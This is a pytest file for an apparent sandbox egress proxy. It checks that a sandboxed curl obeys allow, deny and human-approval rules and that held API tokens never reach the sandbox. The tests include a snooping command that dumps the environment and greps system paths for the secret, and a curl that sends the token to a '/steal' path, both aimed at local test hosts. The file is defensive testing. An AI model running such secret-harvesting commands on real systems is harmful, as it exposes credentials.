"""A real sandboxed ``curl`` behind the egress proxy: allowed, denied, asked, held."""

from __future__ import annotations

import base64
import dataclasses
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from bastion.approval.clock import SystemClock
from bastion.approval.memory import MemoryStore
from bastion.approval.model import ApprovalRequest
from bastion.audit.keyed import ArgumentHasher
from bastion.audit.ledger import Ledger
from bastion.audit.store import MemoryLedgerStore
from bastion.configuration import load_text
from bastion.exec import BubblewrapRunner, ExecConfig, ExecError
from bastion.exec.egress import EgressSession, StaticDialer
from bastion.exec.egress.held import HeldSecret, hold
from bastion.policy.compiled import Policy
from bastion.policy.engine import Gate
from bastion.policy.network import StaticResolver
from bastion.runtime import Gatekeeper
from tests.exec.egress_helpers import FAKE_ADDRESSES, Seen, Upstream, make_test_ca, start_upstream
from tests.exec.sandbox_helpers import spec_for

POLICY = '[network]\nallow_hosts = ["allowed.test", "held.test"]\ndeny_hosts = ["denied.test"]\n'
SECRET = "s3cr3t-token-value-9f2"


@pytest.fixture
def upstreams() -> Iterator[dict[str, Upstream]]:
    names = ("allowed.test", "asked.test", "denied.test", "held.test")
    servers = {name: start_upstream(name) for name in names}
    yield servers
    for server in servers.values():
        server.close()


def make_keeper(policy: Policy) -> Gatekeeper:
    return Gatekeeper(
        Gate(policy),
        store=MemoryStore(),
        clock=SystemClock(),
        ledger=Ledger(MemoryLedgerStore(), hasher=ArgumentHasher(b"k" * 32)),
    )


def session(keeper: Gatekeeper, upstreams: dict[str, Upstream], **kw: Any) -> EgressSession:
    resolver = StaticResolver({host: [FAKE_ADDRESSES[host]] for host in FAKE_ADDRESSES})
    table = {(FAKE_ADDRESSES[h], 80): ("127.0.0.1", u.port) for h, u in upstreams.items()}
    return EgressSession(keeper, resolver=resolver, dialer=StaticDialer(table), **kw)


def run(
    runner: BubblewrapRunner, policy: Policy, egress: EgressSession, env: dict[str, str], command: str
) -> tuple[int | None, str]:
    spec = spec_for(policy, command, environ=env, config=ExecConfig(timeout=60))
    result = runner.run(dataclasses.replace(spec, egress=egress.binding))
    return result.exit_code, result.stdout + result.stderr


def curl(
    runner: BubblewrapRunner,
    policy: Policy,
    egress: EgressSession,
    env: dict[str, str],
    url: str,
    *options: str,
) -> tuple[int | None, str]:
    line = " ".join(["curl -sS --max-time 50 -w ' [%{http_code}]'", *options, url])
    return run(runner, policy, egress, env, line)


class Approver:
    """Answers the first parked request from the test, once it is parked, through the
    approval queue - and notes what the upstream had seen at that moment."""

    def __init__(self, keeper: Gatekeeper, upstream: Upstream | None = None, *, approve: bool = True) -> None:
        self.keeper, self.upstream, self.approve = keeper, upstream, approve
        self.parked = threading.Event()
        self.requests: list[ApprovalRequest] = []
        self.seen_before: list[Seen] | None = None

    def on_parked(self, request: ApprovalRequest) -> None:
        self.requests.append(request)
        if self.upstream is not None:
            self.seen_before = list(self.upstream.seen)
        self.parked.set()

    def answer_in_background(self) -> threading.Thread:
        def answer() -> None:
            assert self.parked.wait(60), "the connection was never parked"
            self.keeper.queue.answer(self.requests[0].id, approve=self.approve, approver="local:test")

        thread = threading.Thread(target=answer)
        thread.start()
        return thread


def test_a_sandboxed_curl_reaches_an_allowed_host_only_through_the_proxy(
    runner: BubblewrapRunner,
    make_policy: Callable[..., Policy],
    child_env: dict[str, str],
    upstreams: dict[str, Upstream],
) -> None:
    policy = make_policy(POLICY)
    keeper = make_keeper(policy)
    with session(keeper, upstreams) as egress:
        code, out = curl(runner, policy, egress, child_env, "http://allowed.test/x")
    assert (code, out) == (0, "hello from allowed.test GET /x\n [200]")


def test_a_sandboxed_curl_to_a_denied_host_gets_a_403_with_the_reason(
    runner: BubblewrapRunner,
    make_policy: Callable[..., Policy],
    child_env: dict[str, str],
    upstreams: dict[str, Upstream],
) -> None:
    policy = make_policy(POLICY)
    with session(make_keeper(policy), upstreams) as egress:
        code, out = curl(runner, policy, egress, child_env, "http://denied.test/x")
    assert (code, upstreams["denied.test"].seen) == (0, [])
    assert out == (
        "bastion egress: denied.test:80 refused: [policy-denied] denied.test matches [network] "
        "deny_hosts entry 'denied.test'\n [403]"
    )


def test_without_the_proxy_the_sandbox_has_no_route_out(
    runner: BubblewrapRunner,
    make_policy: Callable[..., Policy],
    child_env: dict[str, str],
    upstreams: dict[str, Upstream],
) -> None:
    policy = make_policy(POLICY)
    port = upstreams["allowed.test"].port
    with session(make_keeper(policy), upstreams) as egress:
        code, out = curl(runner, policy, egress, child_env, f"http://127.0.0.1:{port}/", "--noproxy '*'")
    assert (code, out.split(" after ")[0]) == (
        7,
        f" [000]curl: (7) Failed to connect to 127.0.0.1 port {port}",
    )
    assert upstreams["allowed.test"].seen == []


def test_an_asked_host_parks_the_connection_until_a_person_approves_it(
    runner: BubblewrapRunner,
    make_policy: Callable[..., Policy],
    child_env: dict[str, str],
    upstreams: dict[str, Upstream],
) -> None:
    policy = make_policy(POLICY)
    keeper = make_keeper(policy)
    approver = Approver(keeper, upstreams["asked.test"])
    with session(keeper, upstreams, on_parked=approver.on_parked) as egress:
        answering = approver.answer_in_background()
        code, out = curl(runner, policy, egress, child_env, "http://asked.test/a http://asked.test/b")
        answering.join()
    assert (code, out) == (0, "hello from asked.test GET /a\n [200]hello from asked.test GET /b\n [200]")
    assert [r.summary for r in approver.requests] == ["fetch: GET http://asked.test:80/"]  # asked once
    assert approver.seen_before == []
    assert [s.path for s in upstreams["asked.test"].seen] == ["/a", "/b"]


def test_an_asked_host_a_person_rejects_is_never_reached(
    runner: BubblewrapRunner,
    make_policy: Callable[..., Policy],
    child_env: dict[str, str],
    upstreams: dict[str, Upstream],
) -> None:
    policy = make_policy(POLICY)
    keeper = make_keeper(policy)
    approver = Approver(keeper, approve=False)
    with session(keeper, upstreams, on_parked=approver.on_parked) as egress:
        answering = approver.answer_in_background()
        code, out = curl(runner, policy, egress, child_env, "http://asked.test/a")
        answering.join()
    assert (code, out.endswith("[403]"), upstreams["asked.test"].seen) == (0, True, [])
    assert "refused" in out and "denied by a person" in out


HELD_POLICY = POLICY + '[exec.secrets.API_TOKEN]\nhosts = ["held.test"]\napproval = "hold"\n'
#: What the sandboxed process shows of itself: its whole environment, every file of the
#: proxy's directory, and any file under its reachable trees holding the secret.
SNOOP = (
    "env; cat /run/bastion-egress/*.crt /run/bastion-egress/forward.py; "
    'grep -rlI --exclude-dir=proc -e s3cr3t /run /tmp "$HOME" . /etc 2>/dev/null; '
    "cat /proc/self/environ | tr '\\0' '\\n'; echo ---; "
)


def held_secret(policy: Policy) -> HeldSecret:
    """The [exec.secrets] hold of HELD_POLICY, as loaded beside ``policy``."""
    env = {"HOME": policy.home, "BASTION_STATE_DIR": policy.state_dir}
    (binding,) = load_text(HELD_POLICY, cwd=policy.workspace[0], env=env).exec.held
    return hold(binding.name, SECRET, binding.hosts)


def test_a_held_secret_reaches_its_host_only_after_approval_and_never_the_sandbox(
    runner: BubblewrapRunner,
    make_policy: Callable[..., Policy],
    child_env: dict[str, str],
    upstreams: dict[str, Upstream],
) -> None:
    policy = make_policy(HELD_POLICY)
    keeper = make_keeper(policy)
    secret = held_secret(policy)
    approver = Approver(keeper, upstreams["held.test"])
    command = SNOOP + 'curl -sS -H "Authorization: Bearer $API_TOKEN" http://held.test/api'
    with session(keeper, upstreams, held=[secret], on_parked=approver.on_parked) as egress:
        answering = approver.answer_in_background()
        code, out = run(runner, policy, egress, child_env, command)
        answering.join()
    assert code == 0 and out.endswith("---\nhello from held.test GET /api\n")
    assert SECRET not in out and "s3cr3t" not in out
    assert f"API_TOKEN={secret.placeholder}\n" in out
    # The hold asks even though [network] allows held.test; nothing arrived before the answer.
    assert [(r.evaluation.reasons[0].rule, r.summary) for r in approver.requests] == [
        ("egress.hold", "fetch: GET http://held.test:80/")
    ]
    assert approver.seen_before == []
    (seen,) = upstreams["held.test"].seen
    assert seen.headers["Authorization"] == f"Bearer {SECRET}"


def test_a_held_secret_sent_to_another_host_stays_a_placeholder(
    runner: BubblewrapRunner,
    make_policy: Callable[..., Policy],
    child_env: dict[str, str],
    upstreams: dict[str, Upstream],
) -> None:
    policy = make_policy(HELD_POLICY)
    secret = held_secret(policy)
    command = 'curl -sS -u "me:$API_TOKEN" http://allowed.test/steal'
    with session(make_keeper(policy), upstreams, held=[secret]) as egress:
        code, out = run(runner, policy, egress, child_env, command)
    assert (code, out) == (0, "hello from allowed.test GET /steal\n")
    (seen,) = upstreams["allowed.test"].seen
    expected = base64.b64encode(f"me:{secret.placeholder}".encode()).decode()
    assert seen.headers["Authorization"] == f"Basic {expected}"


def test_a_held_secret_a_person_refused_never_leaves(
    runner: BubblewrapRunner,
    make_policy: Callable[..., Policy],
    child_env: dict[str, str],
    upstreams: dict[str, Upstream],
) -> None:
    policy = make_policy(HELD_POLICY)
    keeper = make_keeper(policy)
    approver = Approver(keeper, approve=False)
    command = 'curl -sS -w " [%{http_code}]" -H "X-Key: $API_TOKEN" http://held.test/api'
    with session(keeper, upstreams, held=[held_secret(policy)], on_parked=approver.on_parked) as egress:
        answering = approver.answer_in_background()
        code, out = run(runner, policy, egress, child_env, command)
        answering.join()
    assert (code, out.endswith(" [403]"), upstreams["held.test"].seen) == (0, True, [])


def test_a_held_secret_goes_into_https_only_inside_the_intercepted_tunnel(
    runner: BubblewrapRunner,
    make_policy: Callable[..., Policy],
    child_env: dict[str, str],
    upstreams: dict[str, Upstream],
    tmp_path: Path,
) -> None:
    server_tls, client_tls = make_test_ca(tmp_path, "held.test")
    tls_upstream = start_upstream("held.test", tls=server_tls)
    policy = make_policy(HELD_POLICY)
    keeper = make_keeper(policy)
    secret = held_secret(policy)
    approver = Approver(keeper, tls_upstream)
    resolver = StaticResolver({host: [FAKE_ADDRESSES[host]] for host in FAKE_ADDRESSES})
    dialer = StaticDialer({(FAKE_ADDRESSES["held.test"], 443): ("127.0.0.1", tls_upstream.port)})
    command = SNOOP + 'curl -sS -u "me:$API_TOKEN" https://held.test/secure'
    try:
        with EgressSession(
            keeper,
            resolver=resolver,
            dialer=dialer,
            upstream_tls=client_tls,
            held=[secret],
            on_parked=approver.on_parked,
        ) as egress:
            answering = approver.answer_in_background()
            code, out = run(runner, policy, egress, child_env, command)
            answering.join()
    finally:
        tls_upstream.close()
    assert code == 0 and out.endswith("---\nhello from held.test GET /secure\n"), out
    assert SECRET not in out and "s3cr3t" not in out
    assert approver.seen_before == []
    (seen,) = tls_upstream.seen
    assert seen.headers["Authorization"] == "Basic " + base64.b64encode(f"me:{SECRET}".encode()).decode()


def test_a_held_host_whose_certificate_does_not_verify_never_gets_the_secret(
    runner: BubblewrapRunner,
    make_policy: Callable[..., Policy],
    child_env: dict[str, str],
    upstreams: dict[str, Upstream],
    tmp_path: Path,
) -> None:
    server_tls, _ = make_test_ca(tmp_path, "held.test")  # signed by a CA the proxy does not trust
    tls_upstream = start_upstream("held.test", tls=server_tls)
    policy = make_policy(HELD_POLICY)
    keeper = make_keeper(policy)
    approver = Approver(keeper)
    resolver = StaticResolver({host: [FAKE_ADDRESSES[host]] for host in FAKE_ADDRESSES})
    dialer = StaticDialer({(FAKE_ADDRESSES["held.test"], 443): ("127.0.0.1", tls_upstream.port)})
    command = 'curl -sS -w " [%{http_code}]" -u "me:$API_TOKEN" https://held.test/secure'
    try:
        with EgressSession(keeper, resolver=resolver, dialer=dialer, held=[held_secret(policy)],
                           on_parked=approver.on_parked) as egress:  # fmt: skip
            answering = approver.answer_in_background()
            code, out = run(runner, policy, egress, child_env, command)
            answering.join()
    finally:
        tls_upstream.close()
    assert (code, tls_upstream.seen) == (0, [])
    assert out.startswith("TLS to held.test failed: CERTIFICATE_VERIFY_FAILED") and out.endswith(" [502]")


def test_https_to_an_allowed_host_is_a_blind_tunnel_the_client_verifies_end_to_end(
    runner: BubblewrapRunner,
    make_policy: Callable[..., Policy],
    child_env: dict[str, str],
    tmp_path: Path,
    workspace: Path,
) -> None:
    server_tls, _ = make_test_ca(tmp_path, "allowed.test")
    tls_upstream = start_upstream("allowed.test", tls=server_tls)
    policy = make_policy(POLICY)
    keeper = make_keeper(policy)
    resolver = StaticResolver({host: [FAKE_ADDRESSES[host]] for host in FAKE_ADDRESSES})
    dialer = StaticDialer({(FAKE_ADDRESSES["allowed.test"], 443): ("127.0.0.1", tls_upstream.port)})
    # The client trusts only the test CA: the certificate it checks is the server's own.
    (workspace / "test-ca.txt").write_bytes((tmp_path / "ca.pem").read_bytes())  # *.pem is hidden
    command = "curl -sS --cacert test-ca.txt https://allowed.test/tls"
    try:
        with EgressSession(keeper, resolver=resolver, dialer=dialer) as egress:
            code, out = run(runner, policy, egress, child_env, command)
    finally:
        tls_upstream.close()
    assert (code, out) == (0, "hello from allowed.test GET /tls\n")
    assert [(r.event.kind, r.event.summary) for r in keeper.ledger.events()] == [
        ("decided", "fetch: CONNECT https://allowed.test:443/"),
        ("executed", "fetch: CONNECT https://allowed.test:443/"),
    ]


@pytest.mark.parametrize(
    ("command", "code"),
    [("exit 3", 3), ("kill -TERM $$", 128 + 15), ("exec /nonexistent/program", 127), ("true", 0)],
)
def test_the_forwarder_hands_back_the_commands_exit_status(
    runner: BubblewrapRunner,
    make_policy: Callable[..., Policy],
    child_env: dict[str, str],
    upstreams: dict[str, Upstream],
    command: str,
    code: int,
) -> None:
    policy = make_policy(POLICY)
    with session(make_keeper(policy), upstreams) as egress:
        assert run(runner, policy, egress, child_env, command)[0] == code


def test_a_run_behind_the_proxy_cannot_also_share_the_hosts_network(
    runner: BubblewrapRunner,
    make_policy: Callable[..., Policy],
    child_env: dict[str, str],
    upstreams: dict[str, Upstream],
) -> None:
    policy = make_policy(POLICY)
    with session(make_keeper(policy), upstreams) as egress:
        spec = spec_for(policy, "true", environ=child_env, network=True)
        with pytest.raises(ExecError, match="must not share the host's network"):
            runner.argv(dataclasses.replace(spec, egress=egress.binding))
